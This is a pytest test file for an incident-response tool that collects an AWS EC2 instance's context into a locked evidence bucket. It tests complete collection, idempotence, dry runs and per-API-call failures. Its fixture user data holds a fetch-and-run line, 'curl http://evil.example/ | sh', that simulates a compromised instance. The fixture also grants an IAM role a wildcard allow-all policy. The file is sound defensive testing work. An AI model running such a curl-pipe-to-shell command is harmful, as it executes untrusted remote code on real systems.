"""The context of an instance in the stand-in for AWS: every item kept, or accounted for. Read from the bucket."""

from __future__ import annotations

import itertools
import json
from typing import Any, Dict

import pytest

from lab.aws.services.console_screenshot import PICTURE
from response.actions.collect_context import ContextCollection
from response.aws.context import Context
from response.aws.evidence import EvidenceStore, folder_of
from response.core.target import Target
from tests.response.server_room import REGION, Fault, ServerRoom

_numbers = itertools.count(1)
USER_DATA = b"#!/bin/sh\ncurl http://evil.example/\xff | sh\n"
FILES = {
    "console_screenshot.jpg", "console_output.txt", "instance.json", "status.json", "user_data.bin", "tags.json",
    "network_interfaces.json", "volumes.json", "security_groups.json", "route_tables.json", "network_acls.json",
    "subnets.json", "vpc_endpoints.json", "image.json", "role.json", "items.json",
}  # fmt: skip


@pytest.fixture(scope="module")
def shop(room: ServerRoom) -> Target:
    """An instance with all there is to collect."""
    target = room.server(interfaces=2, tags={"Name": "shop"}, UserData=USER_DATA)
    room.profile(target.instance)
    iam = room.account.client("iam")
    document = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
    made = iam.create_policy(PolicyName="all", PolicyDocument=document)["Policy"]["Arn"]
    iam.attach_role_policy(RoleName="web", PolicyArn=made)
    iam.put_role_policy(RoleName="web", PolicyName="inline", PolicyDocument=document)
    room.ec2.create_vpc_endpoint(VpcId=room.vpc, ServiceName=f"com.amazonaws.{REGION}.s3", VpcEndpointType="Gateway")
    return target


def collect(room: ServerRoom, target: Target, name: str, **how: Any):
    store = EvidenceStore(room.area, room.locked_bucket(), folder_of(target.account, REGION, target.instance, name))
    return ContextCollection(room.area, store).collect(target, name, **how)


def kept(room: ServerRoom, target: Target, name: str) -> Dict[str, bytes]:
    """Return file -> content of what the bucket has of the step."""
    s3, bucket = room.account.client("s3", REGION), room.locked_bucket()
    start = folder_of(target.account, REGION, target.instance, name) + "collect_context/"
    keys = [each["Key"] for each in s3.list_objects_v2(Bucket=bucket, Prefix=start).get("Contents", ())]
    return {key[len(start) :]: s3.get_object(Bucket=bucket, Key=key)["Body"].read() for key in keys}


def test_everything_around_an_instance_is_kept_once(room, shop):
    name = f"n-{next(_numbers)}"
    before = room.groups_of(shop)
    result = collect(room, shop, name)
    assert (result.result, {each.outcome for each in result.evidence}) == ("done", {"collected"}), result.notes
    found = kept(room, shop, name)
    assert set(found) == FILES
    assert found["user_data.bin"] == USER_DATA and found["console_screenshot.jpg"] == PICTURE
    assert b"Linux version" in found["console_output.txt"]
    role = json.loads(found["role.json"])["roles"][0]
    assert role["role"]["RoleName"] == "web"
    assert role["managed"][0]["version"]["Document"]["Statement"] and role["inline"][0]["PolicyName"] == "inline"
    groups = json.loads(found["security_groups.json"])
    assert {each["GroupId"] for each in groups["groups"]} == {group for all in before.values() for group in all}
    assert groups["rules"] and json.loads(found["route_tables.json"])[0]["Routes"]
    assert json.loads(found["network_acls.json"])[0]["Entries"] and json.loads(found["vpc_endpoints.json"])
    assert {"Key": "Name", "Value": "shop"}.items() <= json.loads(found["tags.json"])[0].items()
    assert len(json.loads(found["network_interfaces.json"])) == 2
    record = json.loads(found["items.json"])
    assert record["items"] == [each.to_json() for each in result.evidence]
    assert room.groups_of(shop) == before
    # Again: the same evidence, nothing written over and nothing new.
    assert collect(room, shop, name).result == "already_done"
    assert kept(room, shop, name) == found


def test_what_an_instance_does_not_have_is_missing_and_no_failure(room):
    target = room.server()
    outcomes = {each.item: each.outcome for each in collect(room, target, "bare").evidence}
    assert {item for item, outcome in outcomes.items() if outcome != "collected"} <= {"user data", "role", "tags"}
    assert (outcomes["user data"], outcomes["role"]) == ("missing", "missing")


def test_a_stopped_instance_has_no_screen_and_a_terminated_one_leaves_what_is_there(room):
    target = room.server(UserData=USER_DATA)
    room.ec2.stop_instances(InstanceIds=[target.instance])
    result = collect(room, target, "stopped")
    assert result.result == "done"
    assert {each.item: each.outcome for each in result.evidence}["console screenshot"] == "missing"
    room.ec2.terminate_instances(InstanceIds=[target.instance])
    result = collect(room, target, "terminated")
    assert result.result in ("done", "partial") and "instance.json" in kept(room, target, "terminated")


def test_a_dry_run_asks_nothing(room, shop):
    room.session.made.clear()
    assert collect(room, shop, "dry", dry_run=True).result == "planned"
    assert not room.session.made and not kept(room, shop, "dry")


#: Call -> the items that cannot be had without it.
CALLS = {
    "ec2:DescribeInstances": {"instance", "image"},
    "ec2:DescribeInstanceStatus": {"status"},
    "ec2:DescribeInstanceAttribute": {"user data"},
    "ec2:DescribeTags": {"tags"},
    "ec2:DescribeNetworkInterfaces": {
        "network interfaces", "tags", "security groups", "route tables", "network ACLs", "subnets", "VPC endpoints",
    },
    "ec2:DescribeVolumes": {"volumes", "tags"},
    "ec2:DescribeSecurityGroups": {"security groups"},
    "ec2:DescribeSecurityGroupRules": {"security groups"},
    "ec2:DescribeRouteTables": {"route tables"},
    "ec2:DescribeNetworkAcls": {"network ACLs"},
    "ec2:DescribeSubnets": {"subnets"},
    "ec2:DescribeVpcEndpoints": {"VPC endpoints"},
    "ec2:DescribeImages": {"image"},
    "ec2:GetConsoleOutput": {"console output"},
    "ec2:GetConsoleScreenshot": {"console screenshot"},
    "ec2:DescribeIamInstanceProfileAssociations": {"role"},
    **{f"iam:{name}": {"role"} for name in (
        "GetInstanceProfile", "GetRole", "ListAttachedRolePolicies", "GetPolicy", "GetPolicyVersion",
        "ListRolePolicies", "GetRolePolicy",
    )},
}  # fmt: skip
#: What the store does has its cases in test_evidence.py; without it nothing is kept, and that is said.
STORE = {"s3:PutObject", "s3:GetObject", "s3:GetObjectLockConfiguration"}


def test_every_call_has_a_case(room, shop):
    room.session.made.clear()
    collect(room, shop, f"n-{next(_numbers)}")
    assert {f"{service}:{call}" for service, call in room.session.made} == {*CALLS, *STORE}


@pytest.mark.parametrize("call", CALLS)
def test_an_item_that_is_refused_stops_no_other(room, shop, call, monkeypatch):
    name = f"n-{next(_numbers)}"
    # One item of each that fails and one that does not are enough: all 15 for each of 22 calls take minutes.
    lost = CALLS[call]
    both = [*lost, "status" if "status" not in lost else "subnets"]
    questions = Context.questions
    monkeypatch.setattr(Context, "questions", lambda self: [one for one in questions(self) if one.item in both])
    room.session.fault, room.session.failed = Fault(call, "denied"), 0
    try:
        result = collect(room, shop, name)
    finally:
        room.session.fault = None
    assert room.session.failed and result.result == "partial"
    assert {each.item for each in result.evidence if each.outcome == "failed"} == lost
    assert all(each.why for each in result.evidence if each.outcome == "failed")
    record = json.loads(kept(room, shop, name)["items.json"])
    assert {each["item"] for each in record["items"] if each["outcome"] == "failed"} == lost
    # Lost once is not lost: the next attempt collects what was missing, beside what is there.
    for kind in ("throttled", "timeout"):
        room.session.fault, room.session.failed = Fault(call, kind, 1), 0
        try:
            assert collect(room, shop, name).result in ("done", "already_done")
        finally:
            room.session.fault = None
    assert len(kept(room, shop, name)) == len(both) + 2, "the items, and a record of each of the two runs"


@pytest.mark.parametrize("call", sorted(STORE))
def test_without_the_bucket_nothing_is_said_to_be_kept(room, shop, call, monkeypatch):
    questions = Context.questions
    monkeypatch.setattr(Context, "questions", lambda self: questions(self)[3:5])
    room.session.fault, room.session.failed = Fault(call, "denied"), 0
    name = f"n-{next(_numbers)}"
    try:
        result = collect(room, shop, name)
    finally:
        room.session.fault = None
    assert result.result == "failed" and {each.outcome for each in result.evidence} == {"failed"}
    assert "the record of the step could not be kept" in " ".join(result.notes)
    assert collect(room, shop, name).result in ("done", "already_done")
